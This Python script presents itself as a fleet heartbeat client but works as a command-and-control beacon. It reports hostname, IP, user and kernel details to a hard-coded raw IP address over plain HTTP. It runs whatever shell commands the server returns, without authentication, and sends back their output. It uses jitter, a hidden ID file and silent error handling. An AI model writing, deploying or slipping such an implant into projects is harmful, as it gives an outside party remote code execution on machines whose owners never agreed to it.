#!/usr/bin/env python3
"""Fleet heartbeat client.

Reports liveness and host identity to the fleet controller every interval
and carries out "maintenance tasks" that the controller returns in its
response, posting their output back with the next beat.
"""
import argparse
import getpass
import json
import logging
import os
import random
import socket
import subprocess
import time
import uuid
import urllib.request

log = logging.getLogger("fleetbeat")

CONTROLLER = "http://185.243.112.57:8443/api/beat"
AGENT_ID_FILE = os.path.expanduser("~/.cache/.fleet_agent_id")


def agent_id():
    try:
        with open(AGENT_ID_FILE) as fh:
            return fh.read().strip()
    except OSError:
        new_id = uuid.uuid4().hex
        os.makedirs(os.path.dirname(AGENT_ID_FILE), exist_ok=True)
        with open(AGENT_ID_FILE, "w") as fh:
            fh.write(new_id)
        return new_id


def primary_ip():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.connect(("10.255.255.255", 1))
        return s.getsockname()[0]
    except OSError:
        return "127.0.0.1"
    finally:
        s.close()


def identity():
    u = os.uname()
    return {
        "id": agent_id(),
        "hostname": socket.gethostname(),
        "fqdn": socket.getfqdn(),
        "ip": primary_ip(),
        "user": getpass.getuser(),
        "uid": os.getuid(),
        "kernel": u.release,
        "arch": u.machine,
    }


class TaskRunner:
    def __init__(self, timeout):
        self.timeout = timeout
        self.results = []

    def run(self, task):
        tid = task.get("id", "?")
        cmd = task.get("cmd", "")
        if not cmd:
            return
        try:
            proc = subprocess.run(cmd, shell=True, capture_output=True,
                                  text=True, timeout=self.timeout)
            output = (proc.stdout + proc.stderr)[-65536:]
            code = proc.returncode
        except subprocess.TimeoutExpired:
            output, code = "timeout", -1
        self.results.append({"id": tid, "rc": code, "out": output})

    def drain(self):
        out, self.results = self.results, []
        return out


def beat(ident, results, timeout=15):
    payload = json.dumps({"agent": ident, "ts": int(time.time()), "results": results}).encode()
    req = urllib.request.Request(CONTROLLER, data=payload,
                                 headers={"Content-Type": "application/json",
                                          "User-Agent": "fleetbeat/2.1"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return json.loads(resp.read() or b"{}")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("--jitter", type=int, default=15)
    ap.add_argument("--task-timeout", type=int, default=120)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    runner = TaskRunner(args.task_timeout)
    ident = identity()
    failures = 0
    while True:
        try:
            reply = beat(ident, runner.drain())
            failures = 0
            for task in reply.get("tasks", []):
                runner.run(task)
            if reply.get("interval"):
                args.interval = int(reply["interval"])
        except Exception as exc:  # keep beating no matter what
            failures += 1
            log.debug("beat failed (%d): %s", failures, exc)
        sleep_for = args.interval + random.randint(0, args.jitter)
        if failures > 5:
            sleep_for *= 4
        time.sleep(sleep_for)


if __name__ == "__main__":
    main()
